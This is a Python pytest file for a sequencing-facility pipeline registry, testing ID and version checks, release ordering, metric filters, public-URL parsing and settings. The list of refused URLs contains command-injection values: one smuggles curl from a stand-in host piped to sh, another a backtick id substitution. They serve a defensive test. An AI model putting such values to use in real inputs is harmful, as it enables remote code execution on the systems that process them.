"""Pure decisions: versions, releases, filters, settings."""

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from seqfacility_pipeline_package.names import version_order
from seqfacility_registry.pipelines.errors import InvalidPipelineId, InvalidPipelineVersion
from seqfacility_registry.pipelines.rules import check_pipeline_id, check_pipeline_version
from seqfacility_registry.releases.rules import latest_release, release_answer
from seqfacility_registry.research_data.rules import MetricFilter, filtered, metric_names
from seqfacility_registry.settings import public_url_from, settings_from, shipped_content
from seqfacility_wire.environment import InvalidVariable

METRICS = [
    {
        "id": f"m{number}",
        "category": "ab"[number % 2],
        "flagship": number % 3 == 0,
        "series": [["a", 1], ["b", 2]],
    }
    for number in range(6)
]
SNAPSHOT: dict[str, Any] = {"schemaVersion": 1, "categories": {"a": "A", "b": "B"}, "metrics": METRICS}


@given(st.from_regex(r"\A[a-z0-9-]+\Z"))
def test_every_text_of_the_pattern_is_an_id(text: str) -> None:
    check_pipeline_id(text)


@given(st.text(max_size=20))
def test_any_other_text_is_no_id_and_no_version(text: str) -> None:
    if not text or any(char not in "abcdefghijklmnopqrstuvwxyz0123456789-" for char in text):
        with pytest.raises(InvalidPipelineId):
            check_pipeline_id(text)
    if not text or any(char not in "abcdefghijklmnopqrstuvwxyz0123456789." for char in text):
        with pytest.raises(InvalidPipelineVersion):
            check_pipeline_version(text)


def test_versions_are_ordered_by_number_and_letters_come_first() -> None:
    versions = ["1.10.0", "1.9.0", "1.9", "1.rc1", "10", "2.0a"]

    assert sorted(versions, key=version_order) == ["1.rc1", "1.9", "1.9.0", "1.10.0", "2.0a", "10"]


def test_the_latest_release_is_the_highest_whatever_the_order() -> None:
    releases: Any = [{"version": text} for text in ("1.1.9", "1.1.10-rc.1", "no version", "1.1.10", "1.1.2")]

    assert latest_release(releases) == {"version": "1.1.10"}
    assert latest_release([]) is None
    assert latest_release([{"version": "none"}]) is None


def test_current_version_is_present_only_when_it_is_named() -> None:
    latest: Any = {"version": "2.0.0"}

    assert release_answer(latest, None) == {"latest": latest, "updateAvailable": False}
    assert release_answer(latest, "2.0.0-rc.1")["updateAvailable"] is True


@given(
    st.booleans(),
    st.booleans(),
    st.frozensets(st.sampled_from(["m0", "m1", "m5", "none"])),
    st.sampled_from([None, "a", "none"]),
)
def test_filters_only_take_away_and_the_count_follows(
    flagship: bool, latest: bool, metrics: frozenset[str], category: str | None
) -> None:
    answer = filtered(SNAPSHOT, MetricFilter(flagship, latest, metrics, category))

    found: Any = answer["metrics"]
    assert answer["count"] == len(found)
    assert answer["categories"] == SNAPSHOT["categories"]
    for metric in found:
        assert metric["flagship"] or not flagship
        assert metric["id"] in metrics or not metrics
        assert category in {None, metric["category"]}
        assert len(metric["series"]) == (1 if latest else 2)
    assert all(len(metric["series"]) == 2 for metric in METRICS)  # type: ignore[arg-type]  # a list


def test_a_comma_list_is_read_without_its_empty_parts() -> None:
    assert metric_names(" a ,,b,") == {"a", "b"}
    assert metric_names(None) == metric_names(",") == frozenset()


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("https://registry.example/api", "https://registry.example/api"),
        ("http://host:8090/mirror/api/", "http://host:8090/mirror/api"),
        ("http://[::1]:8090/~lab/api", "http://[::1]:8090/~lab/api"),
        ("", None),
        ("  ", None),
    ],
)
def test_a_public_address_ends_in_api(text: str, url: str | None) -> None:
    assert public_url_from(text) == url


@pytest.mark.parametrize(
    "text",
    [
        "registry.example/api",
        "https://registry.example",
        "https:///api",
        "https://a b/api",
        "https://h/api?x",
        "https://h/api;curl${IFS}other.example|sh;/api",
        "https://h/`id`/api",
        "https://h/a&b/api",
    ],
)
def test_another_address_is_refused(text: str) -> None:
    with pytest.raises(InvalidVariable):
        public_url_from(text)


def test_without_variables_the_shipped_content_is_served() -> None:
    settings = settings_from({})

    assert settings.content == shipped_content()
    assert (settings.secrets, settings.public_url, settings.trusted_proxies) == (None, None, frozenset())


def test_variables_are_read(tmp_path: Path) -> None:
    settings = settings_from(
        {
            "SEQFACILITY_REGISTRY_CONTENT": str(tmp_path),
            "SEQFACILITY_REGISTRY_SECRETS": str(tmp_path / "secrets"),
            "SEQFACILITY_TRUSTED_PROXIES": "10.0.0.1, 10.0.0.2,",
        }
    )

    assert (settings.content, settings.secrets) == (tmp_path, tmp_path / "secrets")
    assert settings.trusted_proxies == {"10.0.0.1", "10.0.0.2"}
